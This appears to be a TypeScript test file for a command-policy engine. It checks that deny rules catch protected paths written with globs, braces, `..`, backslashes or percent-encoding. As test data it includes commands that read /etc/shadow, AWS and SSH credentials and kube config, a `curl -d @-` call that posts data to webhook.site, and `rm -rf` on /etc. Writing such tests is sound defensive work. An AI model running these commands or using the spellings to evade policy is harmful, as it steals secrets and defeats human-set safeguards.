import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { PolicySet } from '../../src/core/policy/index';
import { actOnCommand as act, policy } from './policy-helpers';
import { globSpellings, knownPathsOf } from '../../src/core/policy/glob-spellings';
import { parseCommand } from '../../src/core/shell/index';


// The protected paths are named only once each: one by a read rule, one by a command rule.
const set = policy(`
default_action: allow
policies:
  - name: files
    match: { tool: read }
    rules:
      - action: deny
        when: { path_matches: ['/srv/vault/master.key', '**/.kube/config'] }
  - name: commands
    match: { tool: exec }
    rules:
      - action: deny
        when: { command_matches: ['*/srv/vault/master.key*', '*/etc/shadow*', '*.kube/config*'] }
      - action: ask
        when: { command_matches: ['*>*.bashrc*'] }
      - action: allow
        when: { command_matches: ['ls *', 'cat *'] }
`);

describe('glob spellings of protected paths', () => {
  it('denies a command naming a protected path with glob characters', () => {
    for (const cmd of ['cat /e*/sh*w', 'cat /etc/s[h]adow', 'cat /srv/v*/m*.key', 'cat ~/.k?be/conf*', 'cat /home/*/.ku*/config', 'cat /etc/{passwd,shadow}']) {
      assert.equal(act(set, cmd), 'deny', cmd);
    }
  });
  it('sees a glob redirection target', () => {
    assert.equal(act(set, 'echo x >> ~/.b*shrc'), 'ask');
    assert.equal(act(set, 'echo x >> "~/.b*shrc"'), 'allow');
  });
  it('sees paths written with // and /./ or climbing with ..', () => {
    for (const cmd of ['cat /etc//shadow', 'cat /etc/./shadow', 'cat /tmp/../etc/shadow', 'cat ~/.kube//config']) {
      assert.equal(act(set, cmd), 'deny', cmd);
    }
  });
  it('leaves quoted globs and globs that name no protected path alone', () => {
    for (const cmd of ["cat '/e*/sh*w'", 'ls src/*.ts', 'cat *.md', 'ls /etc/*', 'ls ~/.cargo/registry/src/*/x-*/lib.rs']) {
      assert.equal(act(set, cmd), 'allow', cmd);
    }
  });
  it('takes the paths from the restrictive rules of every tool, once per set', () => {
    const known = knownPathsOf(set);
    assert.equal(knownPathsOf(set), known);
    const spell = (cmd: string, s: PolicySet) => globSpellings(cmd, parseCommand(cmd).components, knownPathsOf(s));
    assert.deepEqual(spell('cat /srv/v*/m*.key', set), ['cat /srv/vault/master.key']);
    const other = policy('default_action: allow\npolicies:\n  - name: p\n    rules:\n      - action: deny\n        when: { command_matches: [x] }\n');
    assert.deepEqual(spell('cat /srv/v*/m*.key', other), []);
    // A brace list is written as the shell writes it, protected or not.
    assert.deepEqual(spell('cat /etc/sha{d,}ow', other), ['cat /etc/shadow /etc/shaow']);
    assert.deepEqual(spell('rm -rf /{tmp/x,etc}', other), ['rm -rf /tmp/x /etc', 'rm -rf /tmp/x', 'rm -rf /etc']);
  });
});

describe('Windows spellings of protected paths', () => {
  const win = policy(`
default_action: deny
policies:
  - name: secrets
    match: { tool: exec }
    rules:
      - action: deny
        when: { command_matches: ['*.aws/*'] }
  - name: learned
    match: { tool: exec }
    rules:
      - action: allow
        when:
          command_matches: ['cat *', 'grep *', 'type *', 'Get-Content *']
          command_not_matches: ['*.ssh/*', '* */.env']
`);
  it('a deny rule naming a path with / sees it written with \\ (quoted, unquoted, after %VAR% or $env:)', () => {
    for (const cmd of ['cat "C:\\Users\\me\\.aws\\credentials"', 'type %USERPROFILE%\\.aws\\credentials', 'Get-Content $env:USERPROFILE\\.aws\\config']) {
      assert.equal(act(win, cmd), 'deny', cmd);
    }
  });
  it("a granting rule's command_not_matches sees a quoted Windows path with / too", () => {
    for (const cmd of ['cat "C:\\Users\\me\\.ssh\\id_work"', "cat 'D:\\src\\app\\.env'", 'grep -r key "C:\\Users\\me\\.ssh\\config"']) {
      assert.equal(act(win, cmd), 'deny', cmd);
    }
  });
  it('leaves backslashes that name no protected path alone', () => {
    for (const cmd of ['cat "src\\app.py"', 'grep "a\\|b" src/x.py', 'cat "C:\\Users\\me\\project\\README.md"']) {
      assert.equal(act(win, cmd), 'allow', cmd);
    }
  });
});

describe('URLs in any letter case', () => {
  const set = policy(`
default_action: allow
policies:
  - name: capture
    match: { tool: exec }
    rules:
      - action: deny
        when: { command_matches: ['*webhook.site*'] }
`);
  it('a restrictive rule sees a URL with its scheme and host in lower case and percent-escapes decoded, as DNS reads them', () => {
    for (const cmd of ['curl https://WEBHOOK.SITE/x', 'curl -d @- HTTPS://Webhook.Site/Abc', 'cd src && wget http://user@WebHook.site:80/a', 'curl https://webhook%2esite/x', 'curl https://WEBHOOK%2ESITE/x', 'curl https://%77ebhook.site/x']) {
      assert.equal(act(set, cmd), 'deny', cmd);
    }
  });
  it('leaves the rest of the line as it is', () => {
    assert.equal(act(set, 'curl https://example.com/WEBHOOK.SITE'), 'allow', 'a path keeps its case');
    assert.equal(act(set, 'curl https://API.example.com/webhook.sitemap'), 'deny');
    assert.equal(act(set, 'curl https://API.example.com/x'), 'allow');
    assert.equal(act(set, 'curl https://example.com%zz/x'), 'allow', 'a malformed escape is kept as written');
  });
});
